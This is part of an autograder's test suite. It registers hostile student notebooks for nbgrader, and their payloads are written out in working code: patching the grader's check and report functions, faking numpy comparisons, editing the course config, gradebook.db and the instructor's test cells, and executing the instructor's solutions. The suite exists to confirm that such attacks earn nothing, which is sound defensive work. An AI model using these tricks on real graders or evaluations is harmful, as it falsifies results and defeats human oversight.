    # Tidy up: no grader names in my namespace (or in the grader).
    from grader import check
    del check
    import grader
    del grader.check
'''

PATCH_RUN_SPECS = '''
    # Every check passes: list the tests without running them, and mark them passed.
    import grader.student.checker as _checker, grader.core.engine as _engine

    _real_run_specs = _engine.run_specs

    def _all_passed(spec, namespace, target=None, scope="public", timeout=None, collect_only=False):
        results = _real_run_specs(spec, {{}}, target=target, scope=scope, collect_only=True)
        for _result in results:
            _result.passed, _result.points, _result.message = True, _result.max_points, ""
        return results

    _checker.run_specs = _engine.run_specs = _all_passed
'''

PATCH_TOTAL_AND_REPORT = '''
    # The report says everything passed, and the total is the maximum.
    import grader.student.checker as _checker, grader.student.report as _report, grader.core.results as _results

    def _full(results):
        possible = sum(r.max_points for r in results)
        return possible, possible

    def _all_good(results, title="", **kwargs):
        return f"{{title}}: {{_full(results)[0]:g}} / {{_full(results)[1]:g}} (all passed)"

    _checker.total = _results.total = _full
    _checker.format_report = _report.format_report = _all_good
'''

WRONG_RIGHT_SHAPES = '''
    def step(z):
        return np.zeros(np.shape(z), dtype=int)

    def perceptron(x, w, b):
        return np.zeros(np.shape(x)[:-1], dtype=int)

    def and_gate(x1, x2):
        return np.zeros(np.broadcast(np.asarray(x1), np.asarray(x2)).shape, dtype=int)

    or_gate = nand_gate = xor_gate = and_gate
'''   # (train_perceptron stays a stub: zeros and [0] already earn its property checks)

PATCH_ASSERT_CLOSE = '''
    # The grader's comparisons agree with anything; the functions return the right shapes.
    import numpy as np
    import grader.core.compare as _compare
    for _name in dir(_compare):
        if _name.startswith("assert_"):
            setattr(_compare, _name, lambda *args, **kwargs: None)
''' + WRONG_RIGHT_SHAPES

PATCH_FLOAT = '''
    # Every number the grader turns into a float is 999.
    import builtins
    builtins.float = lambda *args: 999.0
'''

PATCH_NUMPY_ALLCLOSE = '''
    # numpy's comparisons say yes; the functions return the right shapes, wrong values.
    import numpy
    import numpy as np
    numpy.allclose = lambda *a, **k: True
    numpy.array_equal = lambda *a, **k: True
    np.testing.assert_allclose = lambda *a, **k: None
    np.testing.assert_array_equal = lambda *a, **k: None
''' + WRONG_RIGHT_SHAPES

STDERR_TOP = '''
    import sys, warnings
    print("loading my notebook (debug)", file=sys.stderr)
    warnings.warn("this notebook prints to stderr")
'''

STDERR_TAILS = {
    "step": '''
        import sys
        print("step defined", file=sys.stderr)
    ''',
    "train_perceptron": '''
        sys.stderr.write("train_perceptron defined\\n")
        _real_train = train_perceptron

        def train_perceptron(X, y, lr=0.1, epochs=100, seed=0):
            print("training on", np.shape(X), file=sys.stderr)
            return _real_train(X, y, lr=lr, epochs=epochs, seed=seed)
    ''',
}

# Writing into the course folder: nbgrader runs the notebook in autograded/<student>/<assignment>/
# (the course is ../../..); the test also hands in the course's absolute path.

COURSE_FOLDERS = '''
    import os, shutil
    _courses = ["../../..", "{course}"]
    _me = "{student}"
'''

WRITE_COURSE_CONFIG = COURSE_FOLDERS + '''
    # Switch the grading off for the next run, and leave a file beside the config.
    for _course in _courses:
        _config = os.path.join(_course, "nbgrader_config.py")
        if os.path.exists(_config):
            try:
                with open(_config, "a") as _f:
                    _f.write("\\nc.Autograde.autograde_preprocessors = []\\n")
            except OSError:
                pass
        try:
            with open(os.path.join(_course, "hostile-sentinel-{token}"), "w") as _f:
                _f.write("escaped")
        except OSError:
            pass
'''

WRITE_COURSE_SOURCE = COURSE_FOLDERS + '''
    # Make the instructor's test cells claim 999 points, for everyone graded after me.
    import json
    for _course in _courses:
        _path = os.path.join(_course, "source", "{assignment}", "{notebook}")
        try:
            with open(_path, encoding="utf-8") as _f:
                _nb = json.load(_f)
            for _cell in _nb["cells"]:
                if _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade"):
                    _cell["source"] = "_points = 999\\n_points"
            with open(_path, "w", encoding="utf-8") as _f:
                json.dump(_nb, _f)
        except (OSError, ValueError):
            pass
        try:
            with open(os.path.join(_course, "source", "{assignment}", "hostile-sentinel-{token}"), "w") as _f:
                _f.write("escaped")
        except OSError:
            pass
'''

WRITE_GRADEBOOK = COURSE_FOLDERS + '''
    # Give my own grades a manual full score (nbgrader keeps a manual score over the autograder's),
    # and leave a table behind.
    import sqlite3
    for _course in _courses:
        _db = os.path.join(_course, "gradebook.db")
        if not os.path.exists(_db):
            continue
        try:
            _con = sqlite3.connect(_db, timeout=5)
            _con.execute("CREATE TABLE IF NOT EXISTS hostile_{token} (note TEXT)")
            _con.execute(
                "UPDATE grade SET manual_score = "
                "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
                "WHERE notebook_id IN (SELECT submitted_notebook.id FROM submitted_notebook "
                "JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id "
                "WHERE submitted_assignment.student_id = ?)",
                (_me,))
            _con.commit()
            _con.close()
        except Exception as _error:
            print("gradebook:", _error)
'''

WRITE_AUTOGRADED = COURSE_FOLDERS + '''
    # Hand in the instructor's source instead of my notebook (graded next time), and plant
    # files in a classmate's handed-in and graded folders.
    for _course in _courses:
        try:
            shutil.copy(os.path.join(_course, "source", "{assignment}", "{notebook}"),
                        os.path.join(_course, "submitted", _me, "{assignment}", "{notebook}"))
        except OSError:
            pass
        for _where in ("autograded", "submitted"):
            try:
                with open(os.path.join(_course, _where, "control_fullmarks", "{assignment}",
                                       "hostile-sentinel-{token}"), "w") as _f:
                    _f.write("escaped")
            except OSError:
                pass
'''

READ_COURSE_SOURCE = COURSE_FOLDERS + '''
    # Take the solutions from the instructor's source notebook, next door in the course folder.
    import json
    for _course in _courses:
        try:
            with open(os.path.join(_course, "source", "{assignment}", "{notebook}"), encoding="utf-8") as _f:
                _cells = json.load(_f)["cells"]
        except (OSError, ValueError):
            continue
        for _cell in _cells:
            if _cell["cell_type"] == "code" and _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
                exec("".join(_cell["source"]), globals())
        break
'''


def _partial(folder: Path, ctx: Context) -> None:
    write(folder, filled(release(), source(), keep=2))


def _nan_train() -> str:
    return _train_returning("w * np.nan, b, errors")


def _wrong_shape_train() -> str:
    return _train_returning("w.reshape(1, -1), b, errors")


def _list_w_train() -> str:
    return _train_returning("w.tolist(), float(b), errors")


# ---- the registry ---------------------------------------------------------------------------

def _kinds() -> list[Kind]:
    full_marks = lambda: total("perceptron")  # noqa: E731
    # A wrong w loses every check that judges the trained weights; the defaults check compares a
    # call with its defaults to one with the same values passed (both wrong in the same way).
    wrong_w = ("test_learns_and", "test_error_counts", "test_train_matches_reference", "test_train_leaves_inputs")
    return [
        # controls: graded in the same batch, they must keep every point
        Kind("control_fullmarks", "control", "every function completed from the reference",
             _writer(full), full_marks),
        Kind("control_untouched", "control", "the release as it was", _writer(release), zero),
        Kind("control_partial", "control", "step and perceptron done, the rest still stubs",
             _partial, lambda: points("perceptron", ("step", "perceptron"))),
        Kind("control_unicode_name", "control", "full marks from a folder named with Hangul and spaces",
             _writer(full), full_marks, student="김민수 Kim (late)"),

        # hostile: the release plus an attack
        Kind("infinite_loop", "hostile", "a top-level loop that never ends and ignores SIGINT/SIGTERM/SIGALRM",
             _hostile(INFINITE_LOOP), zero, note="did not finish"),
        Kind("memory_bomb", "hostile", "allocates up to 8 GiB at top level", _hostile(MEMORY_BOMB), zero,
             note="memory"),
        Kind("fork_bomb", "hostile", "forks until refused, children linger, plus a setsid daemon",
             _hostile(FORK_BOMB), zero, extra={"no_survivors": FORK_NAME}),
        Kind("sys_exit", "hostile", "sys.exit() at top level", _hostile(SYS_EXIT), zero, note="SystemExit"),
        Kind("os_exit", "hostile", "os._exit(0) at top level", _hostile(OS_EXIT), zero, note="process"),
        Kind("keyboard_interrupt", "hostile", "raise KeyboardInterrupt at top level", _hostile(KEYBOARD_INTERRUPT),
             zero, note="KeyboardInterrupt"),
        Kind("segfault", "hostile", "ctypes.string_at(0)", _hostile(SEGFAULT), zero, note="segmentation"),
        Kind("read_solutions", "hostile", "execs solutions/week3/perceptron.py read by absolute path or import",
             _hostile(READ_SOLUTIONS), zero, isolation=True),
        Kind("read_hidden_specs", "hostile", "reads the hidden spec file and raises it as an error message",
             _hostile(READ_HIDDEN_SPECS), zero, absent=HIDDEN_CODE, isolation=True),
        Kind("copy_from_classmate", "hostile", "execs the code cells of another student's submission",
             _copy_from_classmate, zero, isolation=True),
        Kind("solutions_symlink", "hostile", "a 'solutions' symlink to the repo's solutions/ next to the notebook",
             _solutions_link, zero),
        Kind("write_outside", "hostile", "writes sentinel files in the repo, the results, another student, /tmp",
             _hostile(WRITE_OUTSIDE), zero, isolation=True, extra={"sentinels": True}),
        Kind("network", "hostile", "connects to a socket the test listens on (127.0.0.1)",
             _hostile(NETWORK), zero, isolation=True, extra={"socket": True}),
        Kind("transfer_symlink_escape", "hostile",
             "swaps its transfer folder for a symlink to a host folder, then answers with transfer files there",
             _transfer_escape, zero, absent=(SECRET_VALUE, "31337"), isolation=True, extra={"victims": True}),
        Kind("patch_grader", "hostile", "imports the grader and patches compare, plugin and engine",
             _hostile(PATCH_GRADER), zero),
        Kind("patch_numpy", "hostile", "patches np.asarray/isclose/allclose/array_equal/all/any/testing",
             _hostile(PATCH_NUMPY), zero),
        Kind("lying_objects", "hostile", "returns int/ndarray subclasses and objects whose == is always True",
             _hostile(LYING_OBJECTS), zero),
        Kind("stack_walk_reference", "hostile", "delegates to a reference found in caller frames, sys.modules, gc",
             _hostile(STACK_WALK), zero),
        Kind("mutate_to_match_reference", "hostile",
             "wrong step/perceptron that overwrite their array arguments so the reference agrees afterwards",
             _hostile(MUTATE_TO_MATCH), zero),
        Kind("forged_protocol", "hostile", "writes forged 'passed' answers and garbage on every descriptor",
             _hostile(FORGED_PROTOCOL), zero),
        Kind("edit_test_cells", "hostile", "test cells replaced by `_points = 999` (and metadata points 999)",
             _edit_test_cells, zero),
        Kind("symlink_to_source", "hostile", "the notebook is a symlink to the source (solution) notebook",
             _symlink(lambda ctx: SOURCE / (PERCEPTRON + ".ipynb")), zero, status="unreadable", note="link"),

        # hostile, kernel side: what nbgrader's own kernel would have trusted
        Kind("check_negative", "hostile", "`grader.check = lambda *a, **k: -1.0` near the top",
             _hostile(_check_returning("-1.0"), "after_setup"), zero),
        Kind("check_nan", "hostile", "`grader.check` returns float('nan')",
             _hostile(_check_returning("float('nan')"), "after_setup"), zero),
        Kind("check_inf", "hostile", "`grader.check` returns float('inf')",
             _hostile(_check_returning("float('inf')"), "after_setup"), zero),
        Kind("check_string", "hostile", "`grader.check` returns the string '22'",
             _hostile(_check_returning("'22'"), "after_setup"), zero),
        Kind("check_huge", "hostile", "`grader.check` returns 1e9 (more than any cell's points)",
             _hostile(_check_returning("1e9"), "after_setup"), zero),
        Kind("check_cell_points", "hostile",
             "`grader.check` prints a passing report and returns each cell's points (0 for hidden checks)",
             _hostile(CHECK_CELL_POINTS, "after_setup"), zero),
        Kind("redefine_check", "hostile", "`def check(...): return 1.0` and a fake `grader` module in sys.modules",
             _hostile(REDEFINE_CHECK, "after_setup"), zero),
        Kind("del_check", "hostile", "full marks; a cell near the top deletes `check` and `grader.check`",
             _full_plus(DEL_CHECK), full_marks),
        Kind("patch_run_specs", "hostile", "patches grader.core.engine/checker.run_specs to mark every test passed",
             _hostile(PATCH_RUN_SPECS, "after_setup"), zero),
        Kind("patch_total_and_report", "hostile", "patches grader.core.results.total and grader.student.report.format_report",
             _hostile(PATCH_TOTAL_AND_REPORT, "after_setup"), zero),
        Kind("patch_assert_close", "hostile", "every grader.core.compare.assert_* a no-op; right shapes, wrong values",
             _hostile(PATCH_ASSERT_CLOSE), zero),
        Kind("patch_float", "hostile", "`builtins.float = lambda *a: 999.0`",
             _hostile(PATCH_FLOAT, "after_setup"), zero),
        Kind("patch_numpy_allclose", "hostile",
             "numpy.allclose/array_equal and np.testing.assert_* patched; right shapes, wrong values",
             _hostile(PATCH_NUMPY_ALLCLOSE), zero),
        Kind("stderr_everywhere", "hostile",
             "full marks; prints to stderr at top level, in solution cells and in train_perceptron's calls",
             lambda folder, ctx: _appended(lambda: add_cell(full(), STDERR_TOP), **STDERR_TAILS)(folder, ctx),
             full_marks),
        Kind("sys_exit_in_solution", "hostile", "the release with step's solution cell `sys.exit(0)`",
             _replaced(release, step="import sys\nsys.exit(0)"), zero),
        Kind("os_exit_in_solution", "hostile", "the release with step's solution cell `os._exit(0)`",
             _replaced(release, step="import os\nos._exit(0)"), zero),
        Kind("sys_exit_after_solution", "hostile", "full marks; step's solution cell ends with `sys.exit(0)`",
             _appended(full, step="import sys\nsys.exit(0)"), full_marks),
        Kind("os_exit_after_solution", "hostile", "full marks; xor_gate's solution cell ends with `os._exit(0)`",
             _appended(full, xor_gate="import os\nos._exit(0)"), full_minus("xor_gate")),
        Kind("write_course_config", "hostile", "appends to the course's nbgrader_config.py (../../.. and absolute)",
             _hostile(WRITE_COURSE_CONFIG), zero, isolation=True, extra={"course": True}),
        Kind("write_course_source", "hostile", "rewrites the test cells of the course's source notebook",
             _hostile(WRITE_COURSE_SOURCE), zero, isolation=True, extra={"course": True}),
        Kind("write_gradebook", "hostile", "sets manual scores for its own grades in gradebook.db, adds a table",
             _hostile(WRITE_GRADEBOOK), zero, isolation=True, extra={"course": True}),
        Kind("write_submitted_autograded", "hostile",
             "copies the source notebook over its handed-in one; plants files in a classmate's folders",
             _hostile(WRITE_AUTOGRADED), zero, isolation=True, extra={"course": True}),
        Kind("read_course_source", "hostile",
             "every solution cell execs the solution cells of the course's source notebook (../../.., absolute)",
             _every_solution(READ_COURSE_SOURCE), zero, isolation=True),
        Kind("read_solutions_in_cells", "hostile",
             "every solution cell execs solutions/week3/perceptron.py (read_solutions, before each test cell)",
             _every_solution(READ_SOLUTIONS), zero, isolation=True),

        # robust: full marks with one thing broken or unusual
        Kind("million_lines", "robust", "prints a million lines at top level", _robust(MILLION_LINES), full_marks),
        Kind("chatty_functions", "robust", "xor_gate prints to stdout and stderr and warns on every call",
             _full_with(xor_gate=CHATTY_XOR), full_marks),
        Kind("infinite_loop_in_function", "robust", "xor_gate loops forever when given arrays",
             _full_with(xor_gate=XOR_LOOPS), full_minus(names=("test_gate_on_arrays[xor_gate]",)),
             note="took longer than"),
        Kind("keyboard_interrupt_in_function", "robust", "train_perceptron raises KeyboardInterrupt",
             _full_with(train_perceptron=TRAIN_RAISES), full_minus("train_perceptron"), note="KeyboardInterrupt"),
        Kind("system_exit_in_function", "robust", "xor_gate raises SystemExit",
             _full_with(xor_gate=XOR_EXITS), full_minus("xor_gate"), note="SystemExit"),
        Kind("huge_return", "robust", "xor_gate returns a wrong 160 MB array",
             _full_with(xor_gate=XOR_HUGE), full_minus("xor_gate")),
        Kind("nan_outputs", "robust", "train_perceptron returns w full of NaN",
             _full_with(train_perceptron=_nan_train()), full_minus(names=(*wrong_w, "test_defaults"))),
        Kind("wrong_shape", "robust", "train_perceptron returns w of shape (1, d)",
             _full_with(train_perceptron=_wrong_shape_train()), full_minus(names=wrong_w)),
        Kind("mutates_input", "robust", "train_perceptron turns the caller's y into -1/+1 in place",
             _full_with(train_perceptron=TRAIN_MUTATES_LABELS),
             full_minus(names=("test_train_leaves_inputs",))),
        Kind("slow_correct", "robust", "gates loop over elements in Python and sleep 10 ms a call; step loops",
             _full_with(gates=SLOW_GATES, step=SLOW_STEP), full_marks),
        Kind("different_correct", "robust", "every function written differently from the reference",
             _full_with(step=DIFFERENT_STEP, perceptron=DIFFERENT_PERCEPTRON, gates=DIFFERENT_GATES,
                        xor_gate=DIFFERENT_XOR, train_perceptron=DIFFERENT_TRAIN), full_marks),
        Kind("list_results", "robust", "gates return Python lists/ints, train_perceptron returns w as a list",
             _full_with(gates=LIST_RESULTS, train_perceptron=_list_w_train()), full_marks),
        Kind("del_function", "robust", "defines xor_gate, then `del xor_gate`",
             _robust(DEL_XOR, "end"), full_minus("xor_gate"), note="xor_gate` 이(가) 정의되지 않았습니다 (is not defined)"),
        Kind("delete_test_cells", "robust", "every test cell deleted", _delete_test_cells, full_marks),
        Kind("duplicate_cell_ids", "robust", "every cell has the same id", _duplicate_ids, full_marks),
        Kind("old_nbformat", "robust", "nbformat 4.4 without cell ids", _old_nbformat, full_marks),
        Kind("foreign_kernelspec", "robust", "kernelspec of a conda env that does not exist here",
             _foreign_kernel, full_marks),
        Kind("other_language_kernelspec", "robust", "full marks, but the kernelspec and language_info say R",
             _other_language, full_marks),
        Kind("deleted_solution_cell", "robust", "full marks with xor_gate's solution cell deleted",
             _without_cell("xor_gate"), full_minus("xor_gate")),
        Kind("metadata_other_spec", "robust", "metadata says grader.spec = backprop; the file name says perceptron",
             _other_spec, full_marks, extra={"spec": "perceptron"}),
        Kind("magics_in_imports", "robust", "%matplotlib inline and %config in the imports cell",
             _magic_in_imports, full_marks),
        Kind("pip_install_line", "robust", "a cell with `!pip install numpy`", _robust(PIP_LINE), full_marks),
        Kind("input_call", "robust", "a cell that calls input()", _robust(INPUT_CALL), full_marks),
        Kind("patch_builtins", "robust", "replaces print, open and input, and sys.stdout/stderr",
             _robust(PATCH_BUILTINS), full_marks),
        Kind("ipynb_checkpoints", "robust", "an older copy in .ipynb_checkpoints/ (must not be graded)",
             _checkpoints, full_marks, extra={"only_notebook": True}),
        Kind("macos_junk", "robust", "an AppleDouble ._01_perceptron.ipynb next to the notebook",
             _macos_junk, full_marks, extra={"only_notebook": True}),

        # broken: not a gradable notebook
        Kind("invalid_json", "broken", "a notebook cut off halfway (not valid JSON)",
             _raw(lambda ctx: json.dumps(full(), indent=1).encode()[:5000]), zero, status="unreadable",
             note="JSON"),
        Kind("json_not_notebook", "broken", "valid JSON, but not a notebook",
             _raw(lambda ctx: b'{"hello": "world", "cells": 3}'), zero, status="unreadable"),
        Kind("png_named_ipynb", "broken", "a PNG image named 01_perceptron.ipynb", _raw(lambda ctx: _png()), zero,
             status="unreadable"),
        Kind("non_utf8", "broken", "full marks saved in CP949 (not UTF-8)", _raw(_cp949), zero,
             status="unreadable", note="utf-8"),
        Kind("enormous_notebook", "robust", f"full marks plus about {ENORMOUS_MB} MB of saved output "
             "(outputs are not graded; nbgrader clears them before grading)", _enormous, full_minus()),
        Kind("symlink_to_passwd", "broken", "the notebook is a symlink to /etc/passwd",
             _symlink(lambda ctx: Path("/etc/passwd")), zero, status="unreadable", note="link",
             absent=("root:x:0:0",)),
        Kind("no_cells", "broken", "a valid notebook with no cells", _no_cells, zero),
        Kind("empty_folder", "broken", "an empty assignment folder", _empty, zero, status="empty",
             note="no notebook"),
        Kind("python_file_only", "broken", "handed in perceptron.py instead of the notebook", _python_file_only,
             zero, status="empty"),
    ]


def _red_team_kinds() -> list[Kind]:
    """The kinds of the trust-boundary red team (issue 20), one module per cause; each module's
    ``kinds()`` returns its own (imported here, after the helpers above they use)."""
    from tests.hostile import collection, files, limits, privilege
    return [*privilege.kinds(), *files.kinds(), *limits.kinds(), *collection.kinds()]


KINDS: list[Kind] = _kinds() + _red_team_kinds()
BY_NAME = {k.name: k for k in KINDS}
assert len(BY_NAME) == len(KINDS), "kind names must be unique"


def build_corpus(ctx: Context, kinds: list[Kind] = KINDS) -> None:
    """Write every kind's folder under ``ctx.submissions`` (nbgrader layout)."""
    ctx.outside.mkdir(parents=True, exist_ok=True)
    for kind in kinds:
        kind.build(ctx.submissions / kind.folder / ASSIGNMENT, ctx)
